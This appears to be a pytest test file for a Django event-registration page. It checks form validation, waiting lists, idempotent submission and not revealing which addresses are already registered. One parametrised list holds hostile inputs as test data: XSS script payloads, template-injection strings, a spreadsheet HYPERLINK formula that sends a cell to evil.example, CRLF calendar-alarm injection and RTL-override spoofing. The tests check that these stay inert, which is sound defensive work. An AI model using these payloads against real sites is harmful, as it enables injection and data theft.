"""The register page: what it asks, what it refuses, and that it tells strangers nothing."""

import re
import uuid

import pytest
from django.test import Client
from django.urls import reverse

from dissemination.events import services as event_services
from dissemination.messaging.models import Message
from registrations.models import Need, Registration
from tests.factories import make_event, make_member, make_organisation, make_registration, make_workshop

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("on_a_monday_in_march")]


def answers(**changes):
    return {
        "name": "Ann Example",
        "email": "ann@example.org",
        "organisation": "Northvale Borough Council",
        "sector": "local",
        "kind": "newcomer",
        "listing": "participants",
        "photograph": "no",
        "form_key": str(uuid.uuid4()),
        "statement_version": "1",
    } | changes


def post(client, event, **changes):
    return client.post(reverse("registrations:register", args=[event.slug]), answers(**changes), follow=True)


def without_secrets(page):
    return re.sub(r'(csrfmiddlewaretoken" value=")[^"]*', r"\1", page.content.decode())


def test_the_form_leads_to_a_ticket(client):
    event = make_event(title="Spreading what works")
    page = post(client, event, severe_allergy="Nuts", features=["bsl"])
    assert page.redirect_chain == [(f"/events/{event.slug}/registered/", 302)]
    text = page.content.decode()
    assert "You have a place" in text
    assert "Ann Example" in text
    registration = Registration.objects.get()
    told = (registration.listing, registration.photograph, registration.news, registration.statement_version)
    assert told == ("participants", "no", False, 1)
    assert registration.statement_at == registration.registered_at
    need = Need.objects.get()
    assert (need.severe_allergy, need.features) == ("Nuts", ["bsl"])


@pytest.mark.django_db(transaction=True)
def test_the_ticket_promises_a_group_to_those_alone_who_get_one(client):
    event = make_event(mode="both", online_capacity=9, capacity=9)
    promise = "You will hear before the day"
    assert promise not in post(client, event).content.decode()
    make_workshop(event)
    texts = [
        post(client, event, mode=mode, email=f"{mode}@example.org").content.decode()
        for mode in ("in_person", "online", "in_person")
    ]
    assert [promise in text for text in texts] == [True, False, True]


def test_the_same_form_leads_to_the_same_page(client):
    event, key = make_event(), str(uuid.uuid4())
    first, second = (post(client, event, form_key=key) for _ in range(2))
    assert without_secrets(first) == without_secrets(second)
    assert (Registration.objects.count(), Message.objects.count()) == (1, 1)


def test_a_full_event_says_so_before_and_after(client):
    event = make_event(capacity=0)
    assert "you join the waiting list" in client.get(f"/events/{event.slug}/register/").content.decode()
    assert "<h1>You are on the waiting list</h1>" in post(client, event).content.decode()


@pytest.mark.parametrize("capacity", [2, 1])
def test_a_known_address_sees_what_a_new_one_would_see(client, capacity):
    event = make_event(capacity=capacity)
    make_registration(event, email="ann@example.org")
    known = without_secrets(post(client, event, email="ANN@Example.org"))
    new = without_secrets(post(client, event, email="new@example.org"))
    assert known.replace("ann@example.org", "new@example.org") == new
    assert Registration.objects.count() == 2


def test_somebody_else_may_receive_the_mail(client):
    event = make_event()
    page = post(client, event, email="", contact_email="office@example.org")
    assert "office@example.org" in page.content.decode()
    assert Message.objects.get().to_email == "office@example.org"


def test_an_event_of_both_kinds_asks_how_people_take_part(client):
    event = make_event(mode="both", online_capacity=5)
    assert post(client, event).context["form"].errors == {"mode": ["Say how you will take part."]}
    post(client, event, mode="online")
    assert Registration.objects.get().mode == "online"


def test_an_online_event_does_not_ask(client):
    post(client, make_event(mode="online", online_capacity=5))
    assert (Registration.objects.get().mode, Registration.objects.get().state) == ("online", "confirmed")


@pytest.mark.parametrize(
    ("telephone", "words"),
    [
        ("", "To talk about it, write to events@example.org."),
        ("01632 960111", "To talk about it, write to events@example.org or call 01632 960111."),
    ],
)
def test_who_needs_an_adjustment_is_told_whom_to_talk_to(client, telephone, words):
    event = make_event(contact_telephone=telephone)
    assert words in client.get(f"/events/{event.slug}/register/").content.decode()


def test_the_organisations_that_are_known_are_offered(client):
    known = make_organisation("Information Commissioner's Office", short_name="ICO")
    make_organisation("Typed by somebody at another event")
    event = make_event()
    event_services.save_organisation(known, by=make_member(event), at=event.starts_at)
    page = client.get(f"/events/{event.slug}/register/")
    assert "Typed by somebody" not in page.content.decode()
    assert '<option value="Information Commissioner&#x27;s Office">ICO</option>' in page.content.decode()


@pytest.mark.parametrize(
    ("changes", "field", "words"),
    [
        ({"name": ""}, "name", "Enter your name."),
        ({"name": "\u202e\u2066"}, "name", "Enter your name."),
        ({"name": "a\x00b"}, "name", "Type this again: it holds a character that cannot be kept."),
        (
            {"organisation": "a\x00b"},
            "organisation",
            "Type this again: it holds a character that cannot be kept.",
        ),
        ({"email": "ann@"}, "email", "Enter an e-mail address in the form name@example.org."),
        (
            {"email": '"<script>alert(1)</script>"@example.org'},
            "email",
            "Enter an e-mail address in the form name@example.org.",
        ),
        (
            {"email": ""},
            "email",
            "Enter your e-mail address, or that of somebody who receives your mail.",
        ),
        ({"sector": ""}, "sector", "Choose a sector."),
        ({"kind": ""}, "kind", "Say which of the two fits you."),
        ({"listing": ""}, "listing", "Say who may see your name."),
        ({"photograph": ""}, "photograph", "Say yes or no to photographs."),
        ({"form_key": "x"}, "form_key", "Open this page again, then fill in the form once more."),
        (
            {"statement_version": "9"},
            "statement_version",
            "The text about your data has changed. Read it, then send the form again.",
        ),
    ],
)
def test_what_is_missing_is_asked_for(client, changes, field, words):
    page = post(client, make_event(), **changes)
    assert (page.status_code, page.context["form"].errors) == (422, {field: [words]})
    assert Registration.objects.count() == 0


INERT = [
    "<script>alert(document.domain)</script>",
    "</script><img src=x onerror=alert(1)>",
    "evil.example/login",
    "{{ settings.SECRET_KEY }}{% debug %}{email}",
    '=HYPERLINK("https://evil.example/?"&A1,"ok")',
    "+44 7700 900123",
    'O"Brien; Ann, \\ back',
    "Ann\r\nBEGIN:VALARM\r\nATTACH:https://evil.example",
    "\u202egnp.exe\u2066 Ann",
    "Z" + "\u0301" * 20,
    "X",
    '<font color="red">x</font>',
    "Anna <b> & Co < 3",
]


@pytest.mark.parametrize("typed", INERT)
def test_names_and_texts_are_taken_and_stay_inert(client, typed):
    texts = {"name": typed, "organisation": typed, "job_title": typed, "dietary": typed, "access": typed}
    page = post(client, make_event(), **texts)
    registration = Registration.objects.get()
    assert registration.name
    assert "<script>alert" not in page.content.decode()
    mail = Message.objects.get()
    parts = [line for line in mail.calendar.splitlines() if line in ("BEGIN:VEVENT", "BEGIN:VALARM")]
    assert parts == ["BEGIN:VEVENT"]
    assert "evil.example/login</a>" not in mail.html
    assert "<script" not in mail.html


def test_a_plus_in_an_address_is_taken(client):
    post(client, make_event(), email="ann+tag@example.org")
    assert Registration.objects.get().email == "ann+tag@example.org"


def test_what_the_form_does_not_ask_cannot_be_set(client):
    post(client, make_event(capacity=0), state="confirmed", id="1", walked_in="on")
    assert Registration.objects.get().state == "waiting"


def test_a_closed_event_says_so(client):
    event = make_event(state="closed")
    page = client.get(f"/events/{event.slug}/register/").content.decode()
    assert "Registration has closed." in page
    assert post(client, event).status_code == 409
    assert Registration.objects.count() == 0


def test_a_draft_is_not_there(client):
    assert client.get(f"/events/{make_event(state='draft').slug}/register/").status_code == 404


def test_the_ticket_is_shown_to_the_browser_that_sent_the_form_only(client):
    event = make_event()
    page = client.get(f"/events/{event.slug}/registered/")
    assert page.headers["Location"] == f"/events/{event.slug}/register/"


def test_whoever_sends_the_form_once_more_reads_the_same_ticket(client):
    event = make_event(capacity=1)
    first, second = (post(client, event).content.decode() for _ in range(2))
    assert "You have a place" in first
    assert second == first
    text = post(client, event, name="Ben", email="ben@example.org").content.decode()
    assert "You are on the waiting list" in text
    assert Registration.objects.count() == 2


def test_another_browser_learns_nothing_of_an_address_that_is_known(client):
    event = make_event(capacity=1)
    post(client, event)
    stranger = Client()
    for _ in range(2):
        assert "You are on the waiting list" in post(stranger, event).content.decode()


def test_a_ticket_that_was_written_elsewhere_is_not_shown(client):
    event, other = make_event(), make_event()
    post(client, other)
    assert client.get(f"/events/{event.slug}/registered/").status_code == 302
    client.cookies["registered"] = "forged"
    assert client.get(f"/events/{other.slug}/registered/").status_code == 302


def test_the_form_asks_the_database_little(client, django_assert_num_queries):
    event = make_event()
    make_organisation()
    for _ in range(2):
        with django_assert_num_queries(2):
            client.get(f"/events/{event.slug}/register/")
        make_organisation(), make_organisation()


def test_a_lost_link_is_sent_to_whoever_is_registered_and_the_page_tells_nobody(client):
    event = make_event()
    make_registration(event, email="ann@example.org")
    pages = [
        client.post(f"/events/{event.slug}/lost-link/", {"email": address})
        for address in ("ANN@example.org", "nobody@example.org", "ann@example.org")
    ]
    assert len({without_secrets(page) for page in pages}) == 1
    assert [(mail.kind, mail.to_email) for mail in Message.objects.all()] == [("link", "ann@example.org")]


def test_a_lost_link_needs_an_address(client):
    event = make_event()
    page = client.post(f"/events/{event.slug}/lost-link/", {"email": "ann"})
    assert (page.status_code, client.get(f"/events/{event.slug}/lost-link/").status_code) == (422, 200)
